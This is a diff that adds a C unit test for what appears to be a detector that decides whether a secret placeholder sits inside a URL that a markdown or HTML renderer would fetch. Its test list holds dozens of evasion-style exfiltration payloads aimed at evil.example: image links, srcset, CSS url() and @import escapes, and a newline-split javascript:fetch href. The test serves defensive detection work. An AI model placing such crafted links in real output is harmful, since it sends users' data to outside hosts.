@@ -56,6 +56,64 @@ static void spell(Buf *out, size_t before, const char *spelled, int zeros) {
     assert_int_equal(out->status, OK);
 }
 
+/* NAME is what a surrogate would be: in an address it would be fetched. Both the whole text and a
+   stream must say so, wherever the text stands. */
+static void an_address_ends_where_a_reader_of_it_ends_it(void **state) {
+    static const char *const inside[] = {
+        "<img src='/\\evil.example/NAME'>", "<img src='\\\\evil.example/NAME'>",
+        "<img src=/\\a.example/NAME>", "![x](/\\evil.example/NAME)", "![x](\\\\evil.example/NAME)",
+        "![x](<http://evil.example/a\\>NAME>)", "[x]: <//evil.example/a\\>NAME>",
+        "![x](http://evil.example/a\\)NAME)", "![x](http://evil.example/a(b\\)c)NAME)",
+        "![x](//evil.example/a]NAME)", "![x](//evil.example/a\"NAME)",
+        "![x](//evil.example/a<NAME)", "![x](//evil.example/a>NAME)",
+        "![y][x]\n\n[x]: //evil.example/a)NAME", "![y][x]\n\n[x]:\n//evil.example/a\">]NAME",
+        "<img src=\" /\t/evil.example/NAME\">", "<img src=\"\x01/\t/evil.example/NAME\">",
+        "<img src='h\nttp\n:\n/\n/evil.example/NAME'>",
+        "<a href='java\nscript\n:\nfetch(1+\"NAME\")'>",
+        "<img src=//evil.example/?\"NAME>", "<img src=//evil.example/?<NAME>",
+        "<img src=//evil.example/?))NAME>", "<img src=//evil.example/?]NAME>",
+        "<img src=//evil.example/a\xEF\xBC\x8CNAME>",
+        "<img alt='>' src=//evil.example/?\"NAME>",
+        "<img alt='>' srcset='x 1x, //evil.example/>\"NAME 2x'>",
+        "<img alt='>' src = x:NAME>",
+        "<style>a{background:url(\\2f\\2f evil.example/NAME)}</style>",
+        "<style>a{background:url(/\\2f evil.example/NAME)}</style>",
+        "<style>a{background:url(//evil.example/\\41 NAME)}</style>",
+        "<style>@import url(//evil.example/a\\)NAME);</style>",
+        "<style>@import url(\"//evil.example/a\\\"NAME\");</style>",
+        "<style>@import \"//evil.example/a\\\"NAME\";</style>"};
+    static const char *const outside[] = {
+        "![x](//evil.example/a) NAME", "![x](//evil.example/a)NAME", "![x](<//evil.example/a>)NAME",
+        "[x]: //evil.example/a\nNAME", "<img src=//evil.example/a>NAME",
+        "<img src=//evil.example/a alt=NAME>", "<img src='//evil.example/a' alt='NAME'>",
+        "<img alt='>' src='//evil.example/a'> is NAME: x", "See http://x.example/a, NAME.",
+        "See (http://x.example/a), NAME.", "{\"u\":\"http://x.example/a\",\"n\":\"NAME\"}",
+        "url(//evil.example/a) NAME", "\xE8\xA7\x81http://x.example\xEF\xBC\x8CNAME",
+        "[note]: see NAME", "C:\\Users\\NAME", "and/or NAME", "a \\evil NAME"};
+    char whole[512];
+    const size_t befores[] = {0, 300, BLOCK - 20};
+    Buf text;
+    buf_init(&text, 4 * BLOCK);
+    for (size_t i = 0; i < ARRAY_LEN(inside) + ARRAY_LEN(outside); i++) {
+        bool in = i < ARRAY_LEN(inside);
+        const char *says = in ? inside[i] : outside[i - ARRAY_LEN(inside)];
+        (void)snprintf(whole, sizeof whole, " Hello. %s ", says);
+        for (size_t b = 0; b < ARRAY_LEN(befores); b++) {
+            buf_clear(&text);
+            while (text.n < befores[b]) buf_add_byte(&text, text.n % 9 == 8 ? ' ' : 'x');
+            buf_add_c(&text, whole);
+            size_t at = str_find(buf_str(&text), STR("NAME"), 0);
+            bool seen = is_inside(buf_str(&text), at);
+            bool open = is_open(str_sub(buf_str(&text), 0, at));
+            if (seen != in || open != in) {
+                fail_msg("%s behind %zu: %s, in a stream %s", says, befores[b],
+                         seen ? "in" : "out", open ? "in" : "out");
+            }
+        }
+    }
+    buf_fini(&text);
+}
+
 static void a_scheme_is_seen_over_the_end_of_a_block(void **state) {
     static const char *const spelled[] = {":", "jas", "javscript:"};
     Buf text;
@@ -76,6 +134,7 @@ static void a_scheme_is_seen_over_the_end_of_a_block(void **state) {
 
 int main(void) {
     const struct CMUnitTest tests[] = {
+        cmocka_unit_test(an_address_ends_where_a_reader_of_it_ends_it),
         cmocka_unit_test(a_scheme_is_seen_over_the_end_of_a_block),
     };
     return cmocka_run_group_tests_name("address", tests, NULL, NULL);
